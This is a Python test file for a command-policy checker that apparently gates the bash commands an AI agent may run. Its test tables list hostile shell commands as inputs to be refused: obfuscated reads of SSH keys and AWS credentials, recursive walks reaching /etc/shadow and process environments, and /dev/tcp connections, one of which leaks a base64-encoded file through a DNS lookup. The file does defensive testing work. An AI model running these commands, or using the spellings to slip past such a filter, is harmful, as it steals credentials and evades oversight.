"""Paths completed at run time, spelled so the check did not see them; system walks; /dev/tcp input.

- After a variable, bash removes backslashes and quotes, decodes ``$'\\x2e'`` and expands
  ``{a,b}``: ``cat $HOME/.ss\\h/id_rsa`` is ``cat ~/.ssh/id_rsa``. The completed-read check now
  judges every such spelling (at most 64 brace forms).
- A positional or special parameter's default is a value too: ``cat ${1:-~/.ssh/id_rsa}`` reads the
  key when ``$1`` is unset (``${@:-…}``, ``${10:-…}``, ``${9:=…}``).
- A walk of a directory above a system secret reaches it (``grep -r root: /etc`` reads
  /etc/shadow as root; ``grep -ar KEY /proc/self`` reads its environ): ``/etc``, ``/etc/ssl/private``
  and anything below ``/proc`` now count like the home.
- ``cat < /dev/tcp/host/80`` is bash's own network connection, for input as for output (a
  substitution in the host name even sends a file's content out through the DNS lookup): refused
  while network access is off.
The premises run the real bash."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from agent.security import PolicyContext, SecurityConfig, decide
from tests.security_support import assert_decision, run_bash

Row = tuple[str, bool, str]

SPELLINGS: list[Row] = [
    ("cat $HOME/.ss\\h/id_rsa", False, "path.credentials"),
    ("cat $HOME/.\\ssh/id_rsa", False, "path.credentials"),
    ("cat $HOME/$'\\x2e'ssh/id_rsa", False, "path.credentials"),
    ("cat $HOME/$'\\056ssh'/id_rsa", False, "path.credentials"),
    ("cat ${HOME}/.a\\ws/credentials", False, "path.credentials"),
    ("cat $HOME/.net\\rc", False, "path.credentials"),
    ("cat $HOME/\".ss\"h/id_rsa", False, "path.credentials"),
    ("zip -r x.zip ${HOME}/.s{s,}h", False, "path.credentials"),
    ("cat $HOME/.{ssh,aws}/id_rsa", False, "path.credentials"),
    ("cat \"$PWD/src/a.py\"", True, "allow.list"),
    ("cat $PWD/src/{a,b}.py", True, "allow.list"),
    ("cat \"$PWD\"/src/a\\ b.py", True, "allow.list"),
]

DEFAULTS: list[Row] = [
    ("cat ${1:-~/.ssh/id_rsa}", False, "path.credentials"),
    ("cat ${1-/etc/shadow}", False, "path.credentials"),
    ("cat \"${1:-$HOME/.ssh/id_rsa}\"", False, "path.credentials"),
    ("cat ${@:-/etc/shadow}", False, "path.credentials"),
    ("cat ${*:-/etc/shadow}", False, "path.credentials"),
    ("cat ${10:-/etc/shadow}", False, "path.credentials"),
    ("cat ${9:=/etc/shadow}", False, "path.credentials"),
    ("cat ${1:-src/a.py}", True, "allow.list"),
    ("echo ${1:-default}", True, "allow.list"),
]

SYSTEM_WALKS: list[Row] = [
    ("grep -r root: /etc", False, "path.credentials"),
    ("find /etc -name shadow -exec cat {} +", False, "path.credentials"),
    ("tar -cf x.tar /etc", False, "path.credentials"),
    ("cp -r /etc src/e", False, "path.credentials"),
    ("grep -r . /etc/ssl/private", False, "path.credentials"),
    ("grep -ar KEY /proc/self", False, "path.credentials"),
    ("cp -r /proc/self/ src/", False, "path.credentials"),
    ("tar -cf x.tar /proc/self", False, "path.credentials"),
    ("find /proc/1 -maxdepth 1 -name environ -print0 | xargs -0 cat", False, "path.credentials"),
    ("find /etc -name shadow", False, "path.credentials"),
    ("find /etc -name 'sha*' -exec cat {} +", False, "path.credentials"),
    ("find /etc -type f | xargs cat", False, "path.credentials"),
    ("find /etc -name hosts -o -name shadow -exec cat {} +", False, "path.credentials"),
    ("find /etc -name '*key*'", False, "path.credentials"),
    ("ls -R /etc", False, "path.credentials"),
    ("du -a /etc", False, "path.credentials"),
    ("find /etc -name hosts -exec cat {} \\;", True, "allow.list"),  # only files named hosts
    ("find /etc -name '*.conf'", True, "allow.list"),
    ("ls /etc", True, "allow.list"),
    ("cat /etc/hosts", True, "allow.list"),
    ("ls -R /etc/apt", True, "allow.list"),
    ("grep -r x /usr/share/doc", True, "allow.list"),
]

DEV_TCP: list[Row] = [
    ("cat < /dev/tcp/example.com/80", False, "deny.network"),
    ("read x < /dev/tcp/example.com/80", False, "deny.network"),
    ("while read l; do echo $l; done < /dev/tcp/example.com/80", False, "deny.network"),
    ("cat < /dev/udp/8.8.8.8/53", False, "deny.network"),
    ("cat </dev/tcp/$(base64 -w0 src/a.py).example.com/80", False, "deny.network"),
    ("cat < \"/dev/tcp/example.com/80\"", False, "deny.network"),
    ("cat < src/a.py", True, "allow.list"),
]


@pytest.mark.parametrize(("command", "allowed", "rule"), SPELLINGS + DEFAULTS + SYSTEM_WALKS + DEV_TCP)
def test_spelled_default_walk_socket(command: str, allowed: bool, rule: str, ctx: PolicyContext) -> None:
    assert_decision(decide(command, ctx), allowed, rule)


def test_dev_tcp_follows_the_network_switch(ctx: PolicyContext) -> None:
    networked = ctx.model_copy(update={"config": SecurityConfig(allow_network=True)})
    assert decide("cat < /dev/tcp/example.com/80", networked).allowed


# ---- premises: the real bash -----------------------------------------------------------------------

def _bash(script: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return run_bash(script, cwd, home=cwd)


@pytest.mark.parametrize(("script", "path"), [
    ("echo $HOME/.ss\\h/id_rsa", "/.ssh/id_rsa"),
    ("echo $HOME/$'\\x2e'ssh/id_rsa", "/.ssh/id_rsa"),
    ("echo $HOME/$'\\056ssh'/id_rsa", "/.ssh/id_rsa"),
    ("echo ${1:-$HOME/.ssh/id_rsa}", "/.ssh/id_rsa"),
    ("echo ${10:-$HOME/.ssh/id_rsa}", "/.ssh/id_rsa"),
])
def test_premise_bash_spells_the_completed_path(script: str, path: str, tmp_path: Path) -> None:
    assert _bash(script, tmp_path).stdout.strip() == f"{tmp_path}{path}"


def test_premise_bash_expands_braces_after_a_variable(tmp_path: Path) -> None:
    assert _bash("echo ${HOME}/.s{s,}h", tmp_path).stdout.split() == [f"{tmp_path}/.ssh", f"{tmp_path}/.sh"]


def test_premise_an_input_redirection_from_dev_tcp_connects(tmp_path: Path) -> None:
    """bash itself connects (nothing listens on port 9 here: the refusal is bash's)."""
    out = _bash("cat < /dev/tcp/127.0.0.1/9", tmp_path)
    assert out.returncode != 0 and "/dev/tcp/127.0.0.1/9" in out.stderr and "onnection refused" in out.stderr
